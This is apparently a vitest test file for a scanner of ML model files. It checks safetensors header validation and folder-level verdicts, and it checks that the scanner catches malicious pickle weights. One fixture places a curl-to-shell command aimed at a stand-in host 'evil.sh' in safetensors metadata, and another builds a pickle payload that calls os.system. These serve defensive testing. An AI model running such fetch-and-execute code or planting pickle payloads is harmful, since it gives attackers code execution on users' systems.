import { describe, expect, it } from 'vitest';
import { buildSafetensors } from '../builders/safetensors.js';
import { buildZip } from '../builders/zip.js';
import { payloadPickle } from '../builders/pickle.js';
import { scanOf, scanFiles } from './helpers.js';

/* safetensors through the whole engine: detected by content, header validated, never the tensor data read. */

const valid = (): Buffer =>
  buildSafetensors({
    tensors: { 'layer.weight': { dtype: 'F32', shape: [2, 2] }, 'layer.bias': { dtype: 'BF16', shape: [2] } },
    metadata: { format: 'pt' },
  });

describe('safetensors files in a scan', () => {
  it('a valid file is reported as a safe format (info) and nothing else', async () => {
    const r = await scanOf(valid(), 'model.safetensors');
    expect(r.files[0]?.format).toBe('safetensors');
    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(['model/safetensors-header:info']);
  });

  it('overlapping tensors are high', async () => {
    const bytes = buildSafetensors({
      tensors: { a: { dtype: 'F32', shape: [2], dataOffsets: [0, 8] }, b: { dtype: 'F32', shape: [2], dataOffsets: [4, 12] } },
    });
    const r = await scanOf(bytes, 'model.safetensors');
    expect(r.findings.some((f) => f.ruleId === 'model/safetensors-header' && f.severity === 'high')).toBe(true);
  });

  it('code hidden in __metadata__ is high', async () => {
    const bytes = buildSafetensors({ tensors: { a: { dtype: 'F32', shape: [1] } }, metadata: { note: "__import__('os').system('curl evil.sh | sh')" } });
    const r = await scanOf(bytes, 'model.safetensors');
    expect(r.findings.some((f) => f.ruleId === 'model/safetensors-header' && f.severity === 'high')).toBe(true);
  });

  it('the classic trap: a pickle .bin beside a valid .safetensors is still caught', async () => {
    const { result } = await scanFiles({ 'model.safetensors': valid(), 'pytorch_model.bin': buildZip({ entries: [{ name: 'archive/data.pkl', data: payloadPickle('os', 'system', 'id') }] }) });
    expect(result.findings.some((f) => f.severity === 'critical' && f.evidence.match === 'os.system')).toBe(true);
  });
});

describe('one verdict per model folder', () => {
  it('reports pickle weights beside safetensors and a card without provenance, on the folder', async () => {
    const { dir, result } = await scanFiles({
      'config.json': '{"architectures": ["LlamaForCausalLM"]}',
      'model.safetensors': valid(),
      'pytorch_model.bin': buildZip({ entries: [{ name: 'archive/data.pkl', data: payloadPickle('collections', 'OrderedDict') }] }),
      'README.md': '---\nlicense: mit\n---\n# tiny\n',
    });
    const folder = result.findings.filter((f) => f.ruleId === 'model/model-folder');
    expect(folder.map((f) => `${f.messageId}:${f.severity}`)).toEqual(['summary:info', 'unsafeBesideSafe:medium', 'noProvenance:low']);
    expect(folder.every((f) => f.location.path === dir)).toBe(true);
  });
});
